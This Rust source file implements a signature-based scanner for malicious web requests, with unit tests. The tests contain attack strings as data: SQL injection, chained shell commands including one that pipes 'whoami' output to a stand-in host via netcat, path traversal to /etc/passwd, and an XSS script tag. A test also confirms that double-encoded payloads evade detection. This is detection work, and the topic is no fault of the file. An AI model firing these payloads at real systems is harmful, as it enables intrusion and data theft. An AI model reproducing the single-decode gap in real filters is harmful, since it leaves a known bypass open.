use std::borrow::Cow;

use tracing::debug;

use super::patterns::PatternLibrary;
use crate::models::request::RequestContext;

/// Extra score for a signature that only appears after decoding.
const ENCODED_EVASION_BONUS: u32 = 10;
pub const MALICIOUS_SCORE: u32 = 40;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadThreat {
    pub rule_id: String,
    pub category: String,
    pub decoded: bool,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PayloadAnalysis {
    pub is_malicious: bool,
    pub threats: Vec<PayloadThreat>,
    pub score: u32,
}

/// Signature scan over path, query, body and header values.
///
/// Percent-encoded input is decoded exactly once. Content that is encoded
/// twice stays encoded after that pass and is not recognised.
pub struct PayloadScanner;

impl PayloadScanner {
    pub fn new() -> Self {
        Self
    }

    pub fn analyze(&self, ctx: &RequestContext, patterns: &PatternLibrary) -> PayloadAnalysis {
        let blob = Self::build_blob(ctx);
        let decoded = if has_percent_escape(&blob) {
            Some(decode_once(&blob))
        } else {
            None
        };

        let mut analysis = PayloadAnalysis::default();
        for rule in patterns.payload_rules() {
            if rule.is_match(&blob) {
                analysis.score += rule.weight;
                analysis.threats.push(PayloadThreat {
                    rule_id: rule.id.clone(),
                    category: rule.category.clone(),
                    decoded: false,
                });
            } else if decoded.as_deref().is_some_and(|text| rule.is_match(text)) {
                analysis.score += rule.weight + ENCODED_EVASION_BONUS;
                analysis.threats.push(PayloadThreat {
                    rule_id: rule.id.clone(),
                    category: rule.category.clone(),
                    decoded: true,
                });
            }
        }

        analysis.is_malicious = analysis.score >= MALICIOUS_SCORE;
        if analysis.is_malicious {
            debug!(
                ip = %ctx.client_ip,
                score = analysis.score,
                rules = ?analysis.threats.iter().map(|t| t.rule_id.as_str()).collect::<Vec<_>>(),
                "Malicious payload signatures matched"
            );
        }
        analysis
    }

    fn build_blob(ctx: &RequestContext) -> String {
        let mut parts: Vec<Cow<'_, str>> = Vec::with_capacity(3 + ctx.headers.len());
        parts.push(Cow::Borrowed(ctx.path.as_str()));
        parts.push(Cow::Owned(ctx.serialized_query()));
        parts.push(String::from_utf8_lossy(&ctx.body));
        let mut header_values: Vec<&str> = ctx.headers.values().map(|v| v.as_str()).collect();
        header_values.sort_unstable();
        parts.extend(header_values.into_iter().map(Cow::Borrowed));
        parts.join(" ")
    }
}

impl Default for PayloadScanner {
    fn default() -> Self {
        Self::new()
    }
}

fn has_percent_escape(text: &str) -> bool {
    text.as_bytes()
        .windows(3)
        .any(|w| w[0] == b'%' && w[1].is_ascii_hexdigit() && w[2].is_ascii_hexdigit())
}

fn decode_once(text: &str) -> String {
    match urlencoding::decode(text) {
        Ok(decoded) => decoded.into_owned(),
        Err(_) => String::from_utf8_lossy(&urlencoding::decode_binary(text.as_bytes())).into_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan(ctx: &RequestContext) -> PayloadAnalysis {
        let patterns = PatternLibrary::builtin().unwrap();
        PayloadScanner::new().analyze(ctx, &patterns)
    }

    #[test]
    fn test_plain_sql_injection_in_body() {
        let ctx = RequestContext::new("1.2.3.4", "POST", "/login").with_body("user=' OR '1'='1");
        let analysis = scan(&ctx);
        assert!(analysis.is_malicious);
        assert!(analysis.score >= MALICIOUS_SCORE);
        assert!(analysis.threats.iter().any(|t| t.rule_id == "sqli.tautology" && !t.decoded));
    }

    #[test]
    fn test_single_encoded_payload_is_flagged() {
        let ctx = RequestContext::new("1.2.3.4", "GET", "/search").with_query("q=%27%20OR%20%271%27%3D%271");
        let analysis = scan(&ctx);
        assert!(analysis.is_malicious);
        let threat = analysis.threats.iter().find(|t| t.rule_id == "sqli.tautology").unwrap();
        assert!(threat.decoded);
        assert!(analysis.score >= 50);
    }

    #[test]
    fn test_double_encoded_payload_is_not_flagged() {
        let ctx = RequestContext::new("1.2.3.4", "GET", "/search")
            .with_query("q=%2527%2520OR%2520%25271%2527%253D%25271");
        let analysis = scan(&ctx);
        assert!(!analysis.is_malicious);
        assert_eq!(analysis.score, 0);
    }

    #[test]
    fn test_benign_request_is_clean() {
        let ctx = RequestContext::new("1.2.3.4", "GET", "/products/42")
            .with_query("page=2&sort=price")
            .with_header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0")
            .with_header("Accept", "text/html,application/xhtml+xml;q=0.9")
            .with_header("Accept-Language", "en-US,en;q=0.5");
        let analysis = scan(&ctx);
        assert_eq!(analysis, PayloadAnalysis::default());
    }

    #[test]
    fn test_cookie_and_form_fields_named_like_commands_are_clean() {
        let ctx = RequestContext::new("1.2.3.4", "POST", "/profile")
            .with_header("Cookie", "theme=dark; id=7")
            .with_body("name=bob&id=5");
        let analysis = scan(&ctx);
        assert_eq!(analysis, PayloadAnalysis::default());

        let ctx = RequestContext::new("1.2.3.4", "GET", "/list").with_header("Cookie", "sid=abc; ls_token=x; sh=1");
        assert!(!scan(&ctx).is_malicious);
    }

    #[test]
    fn test_chained_commands_are_flagged() {
        for body in ["host=8.8.8.8; cat /etc/hosts", "ip=1.1.1.1|id", "ip=1.1.1.1 && whoami | nc evil 9"] {
            let ctx = RequestContext::new("1.2.3.4", "POST", "/ping").with_body(body);
            let analysis = scan(&ctx);
            assert!(
                analysis.threats.iter().any(|t| t.rule_id == "cmd.chain"),
                "{} should match cmd.chain",
                body
            );
            assert!(analysis.is_malicious);
        }
    }

    #[test]
    fn test_traversal_and_script_in_path_and_header() {
        let ctx = RequestContext::new("1.2.3.4", "GET", "/static/../../etc/passwd")
            .with_header("X-Note", "<script>alert(1)</script>");
        let analysis = scan(&ctx);
        let ids: Vec<&str> = analysis.threats.iter().map(|t| t.rule_id.as_str()).collect();
        assert!(ids.contains(&"traversal.dotdot"));
        assert!(ids.contains(&"traversal.sensitive"));
        assert!(ids.contains(&"xss.script"));
        assert_eq!(analysis.score, 120);
    }
}
